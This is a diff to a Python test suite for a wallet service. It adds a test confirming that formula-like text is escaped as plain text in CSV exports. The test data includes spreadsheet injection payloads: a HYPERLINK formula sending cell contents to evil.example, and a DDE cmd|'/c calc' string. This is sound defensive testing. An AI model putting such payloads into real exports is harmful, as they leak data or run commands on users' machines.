@@ -71,9 +71,44 @@ class Export(DaemonTest):
         rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
         self.assertEqual([int(x["id"]) for x in rows], list(range(1, 8)))
         self.assertEqual(rows[1]["description"], 'goodwill, "sorry"\nline two')
-        self.assertEqual((rows[2]["amount"], rows[2]["to"], rows[2]["segments"]), ("-0.0094", UG, "1"))
+        self.assertEqual((rows[2]["amount"], rows[2]["to"], rows[2]["segments"]), ("-0.0094", "'" + UG, "1"))
         rest = list(csv.DictReader(io.StringIO(d.ctl("export", "--csv", "--after-id", "4").stdout, newline="")))
         self.assertEqual(rest, rows[4:])  # resumed after row 4: the same rows, once
+
+    def test_text_a_spreadsheet_would_run_is_written_as_text_in_both_csvs(self):
+        d = self.d
+        self.seed("10")
+        d.ctl_json("rate", "set", "default", "sms", "256", "0.01", "USD")
+        supplied = {}  # (transaction id, column) -> the text as given
+        with d.client() as c:
+            for i, first in enumerate(["=", "+", "-", "@", "\t", "\r"]):
+                reason = first + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
+                t = c.call("credit", wallet="acme", amount="1", reason=reason)
+                supplied[(t["id"], "description")] = reason
+                ref, desc = first + "SUM(1+1)%d" % i, first + "cmd|'/c calc'!A0"
+                t = c.charge(wallet="acme", channel="sms", to=UG, ref=ref, description=desc)
+                supplied[(t["id"], "ref")], supplied[(t["id"], "description")] = ref, desc
+                tp = c.call("topup.create", wallet="acme", amount="2")
+                provider_ref = first + "PS%d" % i
+                t = c.call("topup.confirm", ref=tp["ref"], amount="2", provider="paystack", provider_ref=provider_ref)
+                supplied[(t["transaction"]["id"], "provider_ref")] = provider_ref
+        def rows(*args):  # read as bytes: text mode would turn the \r in a cell into \n
+            out = subprocess.run([WALLETCTL, "-s", d.sock] + list(args), capture_output=True, check=True).stdout
+            return list(csv.DictReader(io.StringIO(out.decode(), newline="")))
+
+        export, statement = rows("export", "--csv"), rows("statement", "acme", "--csv")
+        by_id = {int(r["id"]): r for r in export}
+        by_id_statement = {int(r["id"]): r for r in statement if r["id"]}
+        for (txn, column), text in supplied.items():
+            self.assertEqual(by_id[txn][column], "'" + text, column)
+            if column == "description":
+                self.assertEqual(by_id_statement[txn]["description"], "'" + text)
+        for row in export + statement:  # no cell but a number starts as a formula would
+            for column, cell in row.items():
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    self.assertIn(column, ("amount", "balance_after", "balance", "price"), (column, cell))
+                    D(cell)
+        self.assertTrue(any(r["amount"].startswith("-") for r in export))  # amounts stay numbers
 
 
 class ClockGoesBack(DaemonTest):
